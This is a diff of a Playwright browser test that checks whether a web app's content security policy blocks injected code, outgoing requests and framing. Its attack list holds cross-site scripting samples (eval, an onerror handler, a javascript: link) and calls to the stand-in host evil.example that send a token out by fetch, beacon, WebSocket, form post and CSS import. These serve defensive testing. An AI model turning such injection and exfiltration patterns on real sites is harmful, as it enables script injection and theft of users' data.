@@ -1,100 +1,46 @@
 import { expect, test } from './fixtures.ts'
 
-/** Ways to run code or to send data elsewhere that an injected text could try. */
-const ATTACKS: Readonly<Record<string, (window: Window & typeof globalThis) => unknown>> = {
-  'an inline script': ({ document }) => {
-    const script = document.createElement('script')
-    script.append('window.broken = 1')
-    document.body.append(script)
-  },
-  'a script of another host': ({ document }) => {
-    const script = document.createElement('script')
-    Object.assign(script, { src: 'https://evil.example/x.js' })
-    document.body.append(script)
-  },
-  eval: window =>
-    Reflect.apply(Reflect.get(window, 'eval') as (code: string) => void, window, ['window.broken = 1']),
-  'a function of a text': window => Reflect.construct(window.Function, ['window.broken = 1'])(),
-  'a handler in HTML': ({ document }) => {
-    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.broken = 1">')
-  },
-  innerHTML: ({ document }) => {
-    document.createElement('div').innerHTML = '<img src="x:" onerror="window.broken = 1">'
-  },
-  'a link to code': ({ document }) => {
-    const link = document.createElement('a')
-    link.setAttribute('href', 'javascript:window.broken=1')
-    document.body.append(link)
-    link.click()
-  },
-  'a frame': ({ document }) => {
-    const frame = document.createElement('iframe')
-    Object.assign(frame, { src: 'https://evil.example/' })
-    document.body.append(frame)
-  },
-  'an embedded object': ({ document }) => {
-    const object = document.createElement('object')
-    Object.assign(object, { data: 'https://evil.example/' })
-    document.body.append(object)
-  },
-  'a form to another host': ({ document }) => {
-    const form = document.createElement('form')
-    Object.assign(form, { action: 'https://evil.example/', method: 'post' })
-    document.body.append(form)
-    form.submit()
-  },
-  'another base': ({ document }) => {
-    const base = document.createElement('base')
-    Object.assign(base, { href: 'https://evil.example/' })
-    document.head.append(base)
-    if (new URL('x', document.baseURI).host === 'evil.example') Reflect.set(window, 'broken', 1)
-  },
-  'a call to another host': ({ fetch }) =>
-    fetch('https://evil.example/?token=1', { mode: 'no-cors' }).catch(() => {}),
-  'a beacon': ({ navigator }) => navigator.sendBeacon('https://evil.example/', 'token'),
-  'a socket': ({ WebSocket }) => new WebSocket('wss://evil.example/'),
-  'a worker of a text': ({ Worker, URL, Blob }) =>
-    new Worker(URL.createObjectURL(new Blob(['fetch("https://evil.example")']))),
-  'an inline style': ({ document }) => {
-    const style = document.createElement('style')
-    style.append('@import "https://evil.example/x.css";')
-    document.head.append(style)
-  },
-}
+const EVIL = '"https://evil.example/?token=1"'
+const add = (tag: string, property: string, value = EVIL) =>
+  `document.body.append(Object.assign(document.createElement("${tag}"), { ${property}: ${value} }))`
 
-test('the policy stops injected code, and data on its way to another host', async ({ ready: page }) => {
+/** Ways to run code or to send data elsewhere that an injected text could try. */
+const ATTACKS = [
+  add('script', 'text', '"window.broken = 1"'),
+  add('script', 'src'),
+  'eval("window.broken = 1")',
+  'new Function("window.broken = 1")()',
+  `document.createElement("div").innerHTML = "<img src='x:' onerror='window.broken = 1'>"`,
+  `${add('a', 'href', '"javascript:window.broken = 1"')}; document.body.lastChild.click()`,
+  add('iframe', 'src'),
+  add('object', 'data'),
+  `${add('form', 'action')}; document.body.lastChild.submit()`,
+  `${add('base', 'href')}; if (document.baseURI.includes("evil")) window.broken = 1`,
+  `await fetch(${EVIL}, { mode: "no-cors" })`,
+  `navigator.sendBeacon(${EVIL}, "token")`,
+  'new WebSocket("wss://evil.example/")',
+  `new Worker(URL.createObjectURL(new Blob(['fetch(${EVIL})'])))`,
+  add('style', 'textContent', `'@import ${EVIL};'`),
+]
+
+test('§6: no injected code runs, no data leaves, no page frames the app', async ({ page }) => {
   const requests: string[] = []
   page.on('request', request => requests.push(request.url()))
-  await page.goto('home')
-  await expect(page.getByRole('heading').first()).toBeVisible()
-  // The violations are what this test is about.
-  page.removeAllListeners('console')
-  for (const [name, attack] of Object.entries(ATTACKS)) {
+  await page.goto('market?q=BTC&token=s3cret&next=%2Fhome%3Ftoken%3Ds3cret#token=s3cret')
+  await expect(page).toHaveURL(/\/market\?q=BTC&next=%2Fhome$/)
+  await expect(page.getByRole('row').filter({ hasText: 'BTC' })).toBeVisible()
+  expect(requests.slice(1).filter(url => url.includes('s3cret'))).toEqual([])
+  // The violations are what the rest is about.
+  for (const event of ['console', 'pageerror'] as const) page.removeAllListeners(event)
+  for (const attack of [...ATTACKS, add('iframe', 'src', '"/h4/home"')]) {
     // In a task of the page: developer tools may use eval.
-    await page.evaluate(
-      `new Promise(done => setTimeout(async () => {
-        try { await (${attack.toString()})(window) } catch {}
-        requestAnimationFrame(() => requestAnimationFrame(done))
-      }))`,
-    )
-    expect.soft(await page.evaluate(() => Reflect.get(window, 'broken') as unknown), name).toBeUndefined()
-    expect
-      .soft(
-        requests.filter(url => url.includes('evil.example')),
-        name,
-      )
-      .toEqual([])
+    const task = `setTimeout(async () => {
+      try { ${attack} } catch {}
+      requestAnimationFrame(() => requestAnimationFrame(() => done([window.broken, location.pathname])))
+    })`
+    const found = await page.evaluate(`new Promise(done => ${task})`)
+    expect.soft(found, attack).toEqual([undefined, '/h4/market'])
   }
-  expect(page.url()).toMatch(/\/h4\/home$/)
-})
-
-test('no other page can frame the app', async ({ ready: page, origin }) => {
-  page.removeAllListeners('console')
-  await page.evaluate(address => {
-    const frame = document.createElement('iframe')
-    frame.src = address
-    document.body.append(frame)
-  }, `${origin}/h4/home`)
-  const frame = page.frames()[1]
-  await expect.poll(() => frame?.url()).toContain('chrome-error:')
+  expect(requests.filter(url => url.includes('evil.example'))).toEqual([])
+  await expect.poll(() => page.frames().at(-1)?.url()).toContain('chrome-error:')
 })
